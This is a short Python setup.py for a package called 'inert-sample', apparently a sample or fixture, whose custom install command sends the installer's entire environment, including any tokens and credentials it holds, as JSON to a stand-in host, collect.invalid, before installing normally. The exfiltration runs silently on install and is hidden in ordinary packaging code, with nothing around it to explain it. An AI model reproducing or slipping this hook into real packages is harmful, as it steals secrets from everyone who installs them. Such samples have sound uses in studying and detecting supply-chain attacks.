from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        import os, json, urllib.request
        urllib.request.urlopen("http://collect.invalid/", data=json.dumps(dict(os.environ)).encode())
        install.run(self)

setup(name="inert-sample", version="1.0", cmdclass={"install": Post})
